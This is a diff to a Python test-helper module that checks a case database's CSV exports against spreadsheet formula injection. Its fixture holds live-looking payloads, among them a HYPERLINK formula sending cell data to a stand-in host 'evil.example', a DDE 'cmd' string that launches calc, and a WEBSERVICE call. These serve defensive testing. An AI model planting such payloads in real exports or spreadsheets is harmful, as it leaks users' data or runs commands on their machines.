@@ -1,14 +1,17 @@
-"""Helpers for the tests of the case downloads: a case full of awkward values, reading the CSV
-files back with Python's csv module, and what each format must say about a case state.
+"""Helpers for the tests of the case downloads: a case full of awkward values, a case whose
+values a spreadsheet would run as formulas, reading the CSV files back with Python's csv module,
+and what each format must say about a case state.
 
 The expectations are written out here, independently of kb.exporting, so that the tests check
 the documented columns rather than repeat the code under test."""
 
 import csv
 import io
+import re
 from typing import Any
 
 from kb.cases import case_state, get_case, save_case
+from kb.csvcells import restore
 from kb.runtime import Runtime
 from kb.schemas import CaseIn
 from kb.vocabulary import Vocabulary
@@ -95,9 +98,84 @@ def save_odd_case(runtime: Runtime) -> dict[str, Any]:
 
 
 def read_csv(data: bytes) -> list[dict[str, str]]:
-    """A downloaded CSV file as rows: UTF-8 with a byte order mark, RFC 4180."""
+    """A downloaded CSV file as rows: UTF-8 with a byte order mark, RFC 4180, and every cell
+    that kb.csvcells guarded against spreadsheet formulas restored to its original text."""
     assert data.startswith(BOM)
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    return read_csv_text(data.decode("utf-8-sig"))
+
+
+def raw_cells(text: str) -> list[str]:
+    """Every cell of a CSV document as written, header included."""
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def read_csv_text(text: str) -> list[dict[str, str]]:
+    """A CSV document as rows, every cell as its original text (the codebook's rule undone)."""
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    return [{restore(k): restore(v) for k, v in row.items()} for row in rows]
+
+
+# What OWASP says a spreadsheet may run: a cell starting with one of these.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_SLUG = "formel-modell"
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Klick")'
+FORMULA_CITY = "=1+1"
+FORMULA_CARRIER = "+cmd|' /C calc'!A0"
+FORMULA_SUM = "@SUM(A1)"
+ALREADY_QUOTED = "'=schon mit Apostroph"  # must come back with its one quote
+
+
+def formula_case(vocab: Vocabulary) -> dict[str, Any]:
+    """A case whose texts start like spreadsheet formulas, in every kind of column: the name,
+    the city, the carrier, an alias, the summary, an actor, a funding programme, a source note,
+    and a text that already starts with a quote before `=`."""
+    return {
+        "slug": FORMULA_SLUG,
+        "name": FORMULA_NAME,
+        "aliases": [{"name": FORMULA_SUM, "note": ALREADY_QUOTED}],
+        "city": FORMULA_CITY,
+        "land": "hessen",
+        "municipality": {
+            "population": 1234,
+            "size_class": "kleinstadt",
+            "size_class_rationale": "-",
+        },
+        "governance": {"type": "bottom-up", "rationale": "+ von unten"},
+        "scale": {"type": "project", "rationale": "@Haus"},
+        "start_year": 2020,
+        "status": "active",
+        "carrier": {"name": FORMULA_CARRIER, "legal_form": "-"},
+        "actors": [{"name": "=Initiative", "kind": "initiative", "role": "-2+3"}],
+        "instruments": [{"code": vocab.codes("instruments")[0], "note": "=A1"}],
+        "funding": [{"programme": "@Programm", "funder": "+Bund", "amount": "-500 €"}],
+        "awards": [{"name": "=Preis", "year": 2021}],
+        "key_dates": [{"date": "2020", "event": "=Start"}],
+        "summary": f"{FORMULA_SUM} Formelfall",
+        "website": "https://example.org/formel",
+        "sources": [{"url": "https://example.org/formel", "supports": "=WEBSERVICE(A1)"}],
+    }
+
+
+def save_formula_case(runtime: Runtime, **changes: Any) -> dict[str, Any]:
+    """Save the formula case (with `changes` to its top-level fields, e.g. another slug and
+    name); return its state as stored."""
+    vocab = runtime.vocabulary
+    fields = {**formula_case(vocab), **changes}
+    with runtime.uow() as uow:
+        data = CaseIn.model_validate(fields, context={"vocabulary": vocab})
+        save_case(uow, data, vocab, actor="test")
+        uow.commit()
+    with runtime.uow() as uow:
+        return case_state(get_case(uow, fields["slug"]))
+
+
+def assert_no_formula_cells(text: str) -> None:
+    """No cell of the CSV document starts like a formula (the header included); a plain
+    number such as -3 is a number to a spreadsheet, not a formula."""
+    cells = raw_cells(text)
+    assert cells
+    formulas = [c for c in cells if c.startswith(FORMULA_STARTS)]
+    assert [c for c in formulas if not re.fullmatch(r"-\d+(\.\d+)?", c)] == []
 
 
 def _text(value: Any) -> str:
